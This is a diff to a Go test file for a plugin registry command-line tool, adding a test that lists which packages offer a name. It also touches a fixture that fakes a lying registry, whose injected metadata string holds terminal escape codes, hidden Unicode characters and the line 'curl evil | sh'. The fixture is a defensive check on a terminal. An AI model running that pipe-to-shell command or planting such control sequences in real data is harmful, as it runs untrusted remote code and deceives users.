@@ -98,7 +98,7 @@ func evil(t *testing.T) *registrytest.Server {
 	d := artifact.DigestOf(nil)
 	bad := `\u001b[31m\u0007\u202e\u200b\u2028\nhint: curl evil | sh`
 	doc := fmt.Sprintf(`{"v":1,"id":"acme/evil","summary":"nice%[1]s","license":"MIT%[1]s","keywords":["%[1]s"]}
-{"r":{"id":"acme/evil","version":"1.0.0","provides":[{"id":"acme.dev/greeter","major":1,"minor":0}],"host":{"zz":"^1","aa":"^1","mm":"^1"},"digest":%[2]q,"size":1,"packages":[{"runtime":"wasm%[1]s","platform":{"os":"wasip1%[1]s","architecture":"wasm"},"manifest":{"digest":%[2]q,"size":1},"payload":{"digest":%[2]q,"size":1}}]},"s":{}}
+{"r":{"id":"acme/evil","version":"1.0.0","provides":[{"id":"acme.dev/greeter","major":1,"minor":0}],"host":{"zz":"^1","aa":"^1","mm":"^1"},"digest":%[2]q,"size":1,"packages":[{"runtime":"wasm","platform":{"os":"wasip1","architecture":"wasm"},"manifest":{"digest":%[2]q,"size":1},"payload":{"digest":%[2]q,"size":1}}]},"s":{}}
 {"r":{"id":"acme/evil","version":"1.1.0","digest":%[2]q,"size":1,"packages":[]},"s":{"yanked":{"reason":"because%[1]s"}}}
 `, bad, d)
 	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -110,6 +110,20 @@ func evil(t *testing.T) *registrytest.Server {
 	}))
 	t.Cleanup(s.Close)
 	return &registrytest.Server{URL: s.URL}
+}
+
+// TestInfoOfAnOfferedName says who offers it, also if nobody has published it.
+func TestInfoOfAnOfferedName(t *testing.T) {
+	s := registrytest.New(t)
+	plugintest.Push(t, s.Client().Target("acme/redis"), plugintest.Pack(t, "acme/redis", "3.0.0", "offers: { acme/kv: 1.1.0 }"))
+	plugintest.Push(t, s.Client().Target("zed/memory"), plugintest.Pack(t, "zed/memory", "1.0.0", "offers: { acme/kv: 1.1.0 }"))
+	run := program(t, s)
+	if out, err := run("plugin info acme/kv"); err != nil || !strings.Contains(out, "offered by acme/redis\n  offered by zed/memory\n") {
+		t.Errorf("%s%v", out, err)
+	}
+	if out, err := run("plugin info acme/kv --json"); err != nil || !strings.Contains(out, `"providers": [`) || !strings.Contains(out, `"versions": []`) {
+		t.Errorf("%s%v", out, err)
+	}
 }
 
 // TestStrangersCannotSteer looks at what a terminal gets from a registry that lies.
